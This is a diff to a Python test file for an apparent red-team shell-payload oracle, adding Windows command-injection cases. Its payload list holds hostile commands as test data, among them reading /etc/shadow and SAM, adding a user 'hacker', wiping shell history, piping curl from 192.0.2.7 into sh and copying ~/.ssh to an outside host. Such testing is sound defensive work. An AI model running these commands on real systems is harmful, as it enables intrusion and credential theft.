@@ -19,7 +19,7 @@ from overproof.redteam.oracle import shell, shell_parse
 from overproof.redteam.oracle.namespace import missing, run_scripts
 from overproof.redteam.oracle.shell import judge
 
-PAYLOADS = """
+PAYLOADS = r"""
 ;uname;
 |id|
 & ls -l /
@@ -56,6 +56,11 @@ export HISTFILE="/dev/null"; rm ~/.bash_history
 sudo cp /etc/shadow /tmp/s && tar czf /tmp/s.tgz /tmp/s || echo failed
 while read line; do echo $line >> /tmp/copy; done < /etc/passwd
 x=$(echo aWQ= | base64 -d); $x
+& dir C:\Users
+&& type %SYSTEMROOT%\repair\SAM
+| net user hacker Password1 /ADD
+&& ipconfig /all &
+reg add "HKLM\System\A b" /v x /t REG_DWORD /d 0 /f
 mira@kolva:~$ curl -s http://192.0.2.7/b | sh
 scp -r ~/.ssh user@198.51.100.4:/tmp/
 """.strip().splitlines()
@@ -129,10 +134,19 @@ def test_each_edit_is_proved_alone() -> None:
         ("PATH=/tmp; id", "id"),
         ("ls <<< hi", "ls <<< ho"),
         ("system('id');", "system('ix');"),
+        ("& dir C:\\x", "& d^or C:\\x"),
+        ("& dir C:\\x", "& rem dir C:\\x"),
+        ("& dir C:\\x || net user", "& dir C:\\x || net view & type C:\\x"),
+        ("& dir C:\\x", "& dir C:\\x & net user"),
     ],
 )
 def test_another_effect_is_seen(original: str, edited: str) -> None:
     assert judge([(original, edited)])[0].meaning == "changed"
+
+
+def test_a_branch_of_cmd_is_not_taken_for_another() -> None:
+    pair = ("dir C:\\x || net user", "dir C:\\x || set a=b & net user")
+    assert judge([pair])[0].meaning == "unproved"
 
 
 @pytest.mark.parametrize(
@@ -141,7 +155,7 @@ def test_another_effect_is_seen(original: str, edited: str) -> None:
         ("asdf3334", "runs no command"),
         ("it's a nice day", "runs no command"),
         ("'true'", "runs no command"),
-        ("& dir C:\\Users", "Windows"),
+        ("$(`type C:\\boot.ini`)", "Windows"),
         ("{{7*7}}", "no shell's text"),
         ("phpinfo();", "runs no command"),
         (";id\0", "NUL"),
